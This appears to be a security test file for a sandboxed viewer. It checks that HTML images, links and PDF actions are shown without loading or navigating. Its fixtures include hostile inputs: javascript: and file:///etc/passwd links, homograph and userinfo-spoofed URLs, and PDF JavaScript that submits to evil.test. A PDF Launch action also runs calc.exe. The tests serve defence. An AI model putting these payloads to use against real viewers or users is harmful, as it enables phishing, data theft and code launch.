import { expect, test } from 'vitest'
import { pdfOf } from '../../support/many-pages.ts'
import { ORIGIN, settle, showFile, text, useViewerPage } from '../../support/viewer-page.ts'

useViewerPage()

const PNG = new Uint8Array(
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=', 'base64'),
)

test('a page is shown with the pictures that came with it, and a text in place of the others', async () => {
  const { frame, asked } = await showFile({
    type: 'html',
    bytes: text(`<!doctype html><html><body><img src="1.png" alt="one"><img src="/b/1.png#x" alt="the same">
      <picture><source srcset="2.png 1x, big.png 2x"><img src="missing.png" alt="two"></picture>
      <img src="gone.png" alt="Room scan"><img src="https://evil.test/1.png"><img srcset="2.png 2x" alt="three">
      <img src="data:image/png;base64,${Buffer.from(PNG).toString('base64')}" alt="embedded">
      <img src="" data-picture='["https://a.test/b/1.png"]' alt="forged">`),
    snapshot: {
      base: 'https://a.test/b/page.html',
      pictures: ['1.png', '2.png'].map((name) => ({
        address: `https://a.test/b/${name}`,
        bytes: PNG,
        type: 'image/png',
      })),
    },
  })
  const loaded = () =>
    frame
      .locator('article img')
      .evaluateAll((images) =>
        (images as HTMLImageElement[]).filter(({ naturalWidth }) => naturalWidth > 0).map(({ alt }) => alt),
      )
  await expect.poll(loaded).toEqual(['one', 'the same', 'two', 'three', 'embedded'])
  expect(await frame.getByRole('img').evaluateAll((images) => images.map(({ textContent }) => textContent))).toEqual(
    expect.arrayContaining(['Room scan', 'Image not shown', 'forged']),
  )
  expect(asked).toEqual([])
})

const LINKS = `<!doctype html><html><body><a href="https://a.test/x?y#z">plain</a> <a href="/rel">relative</a>
  <a href="https://xn--pple-43d.test:8443/">punycode</a> <a href="https://\u0430pple.test/">cyrillic</a>
  <a href="https://bank.test/\u202egnp.exe">reversed</a> <a href="https://bank.test@evil.test/">named</a>
  <a href="javascript:alert(1)">script</a> <a href="file:///etc/passwd">file</a> <a href="mailto:a@b.test">mail</a>
  <a href="app://desk/">app</a> <a role="link" tabindex="0" data-link="app://desk/">forged</a>`

test('guard: links are told to the page as they are, only by a click or Enter, and lead nowhere by themselves', async () => {
  const { page, frame, asked, said } = await showFile({
    type: 'html',
    bytes: text(LINKS),
    snapshot: { base: 'https://a.test/b/page.html', pictures: [] },
  })
  const links = await frame
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => [link.textContent, (link as HTMLElement).title]))
  expect(links).toEqual([
    ['plain', 'https://a.test/x?y#z'],
    ['relative', 'https://a.test/rel'],
    ['punycode', 'https://xn--pple-43d.test:8443/'],
    ['cyrillic', 'https://xn--pple-43d.test/'],
    ['reversed', 'https://bank.test/%E2%80%AEgnp.exe'],
  ])
  await frame.evaluate(() => {
    for (const link of document.querySelectorAll<HTMLElement>('a')) link.click()
  })
  await settle(page)
  expect(await said('link')).toBeUndefined()
  await frame.getByText('cyrillic').click()
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://xn--pple-43d.test/' })
  await frame.getByText('relative').focus()
  await page.keyboard.press('Enter')
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://a.test/rel' })
  for (const name of ['named', 'script', 'file', 'mail', 'app', 'forged'])
    await frame.getByText(name, { exact: true }).click()
  await settle(page)
  expect(await said('link')).toEqual({ kind: 'link', address: 'https://a.test/rel' })
  expect(asked).toEqual([])
  expect(frame.url()).toBe(`${ORIGIN}/viewer.html`)
})

test('guard: a PDF with scripts and launch actions does nothing, and its links are told to the page', async () => {
  const annotation = (top: number, action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [60 ${top - 20} 300 ${top}] /Border [0 0 0] /A << ${action} >> >>`
  const script = `/S /JavaScript /JS (app.alert\\('hacked'\\); this.submitForm\\('https://evil.test/'\\))`
  const { page, frame, asked, said } = await showFile({
    type: 'application/pdf',
    bytes: pdfOf(['Links'], {
      catalog: `/OpenAction << ${script} >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> /AA << /WC << ${script} >> >>`,
      page: `/AA << /O << ${script} >> >> /Annots [${[
        annotation(700, '/S /URI /URI (https://a.test/doc)'),
        annotation(600, '/S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe)'),
        annotation(500, script),
        annotation(400, '/S /URI /URI (file:///etc/passwd)'),
        annotation(300, '/S /SubmitForm /F (https://evil.test/submit)'),
        annotation(200, '/S /GoToR /F (https://evil.test/remote.pdf)'),
      ].join(' ')}]`,
    }),
  })
  const links = frame.getByRole('link')
  await links.first().waitFor()
  const addresses = await links.evaluateAll((all) => all.map((link) => (link as HTMLElement).title))
  expect(addresses[0]).toBe('https://a.test/doc')
  expect(addresses.filter((address) => !/^https:\/\/(?:a|evil)\.test\//.test(address))).toEqual([])
  await links.first().click()
  await expect.poll(() => said('link')).toEqual({ kind: 'link', address: 'https://a.test/doc' })
  await settle(page)
  expect(asked).toEqual([])
})
